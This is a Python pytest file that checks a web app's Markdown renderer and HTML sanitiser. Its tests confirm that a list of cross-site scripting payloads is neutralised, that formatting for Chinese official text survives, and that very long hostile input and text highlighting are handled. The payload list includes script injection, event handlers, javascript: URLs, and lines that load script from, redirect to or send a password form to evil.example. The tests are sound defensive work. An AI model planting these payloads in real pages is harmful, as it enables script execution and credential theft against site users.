"""Stored text becomes safe HTML: nothing runs, nothing is fetched from another host."""

import re

import pytest

from webapp.markup import highlight, render_body, render_markdown, sanitise

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/media/../admin)",
    "[x](//evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](http://a.example "onmouseover=alert(1)")',
    '[x](http://a.example"onmouseover=alert(1))',
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=x><embed src=x>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>x</script> | b |\n|---|---|\n| <img src=x onerror=1> | 2 |",
    "<details open ontoggle=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
]

_LIVE_TAG = re.compile(
    r"<(script|style|svg|math|iframe|object|embed|form|input|base|meta|details)", re.I
)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("make", [render_markdown, sanitise])
def test_no_payload_survives(make: object, payload: str) -> None:
    html = str(make(payload))  # type: ignore[operator]
    tags = re.findall(r"<[^>]*>", html)
    assert _LIVE_TAG.search(html) is None
    for tag in tags:
        assert not re.search(r"\son\w+\s*=", tag, re.I), tag
        assert not re.search(r"(href|src)=\W*(java|vb)script|(href|src)=\W*data", tag, re.I), tag
        assert "style=" not in tag
        if tag.startswith("<img"):
            assert "src=" not in tag, tag
        if tag.startswith("<a"):
            assert 'href="//' not in tag, tag


def test_markdown_keeps_what_official_text_needs() -> None:
    html = render_markdown(
        "## 第一章 总则\n\n1. 材料\n2. 时限\n\n| 项目 | 金额 |\n|---|---:|\n| 缴费 | 540 |\n\n"
        "见[原文](/items/3)、![图](/media/ab12.png)"
    )
    assert "<h2>第一章 总则</h2>" in html
    assert "<li>材料</li>" in html
    assert '<td align="right">540</td>' in html
    assert '<a href="/items/3" rel="noopener noreferrer nofollow">原文</a>' in html
    assert '<img src="/media/ab12.png" alt="图">' in html or 'src="/media/ab12.png"' in html


def test_angle_brackets_in_text_stay_readable() -> None:
    assert "收入 &lt; 3000 元" in render_markdown("收入 < 3000 元")
    assert "&lt;b&gt;" in render_markdown("写作 <b>")


@pytest.mark.parametrize(
    "text",
    [
        "好" * 100_000,  # 300 kB
        "[" * 50_000,
        "[a](" * 20_000,
        "*" * 100_000,
        "<" * 50_000,
        "> " * 40_000,
        "![" * 20_000 + "]" * 20_000,
    ],
    ids=["long", "brackets", "links", "stars", "angles", "quotes", "images"],
)
def test_hostile_text_is_shown_as_written(text: str) -> None:
    html = render_markdown(text)
    assert html.startswith("<pre>")


def test_highlight_escapes_and_marks() -> None:
    assert highlight("补缴<3>个月", [(0, 2)]) == "<mark>补缴</mark>&lt;3&gt;个月"


@pytest.mark.parametrize(
    ("marks", "shown"),
    [
        ([], "abcdef"),
        ([(4, 6), (0, 1)], "<mark>a</mark>bcd<mark>ef</mark>"),
        ([(0, 3), (2, 4)], "<mark>abcd</mark>ef"),
        ([(0, 2), (2, 4)], "<mark>abcd</mark>ef"),
        ([(-5, 1), (5, 99), (3, 3), (4, 2)], "<mark>a</mark>bcde<mark>f</mark>"),
    ],
)
def test_highlight_takes_any_spans(marks: list[tuple[int, int]], shown: str) -> None:
    assert highlight("abcdef", marks) == shown


def test_a_body_shows_the_numbers_that_are_printed():
    assert render_body("1. 甲\n\n3. 丙\n7. 庚\n\n2024. 年的\n").splitlines() == [
        "<p>1. 甲</p>",
        "<p>3. 丙</p>",
        "<p>7. 庚</p>",
        "<p>2024. 年的</p>",
    ]
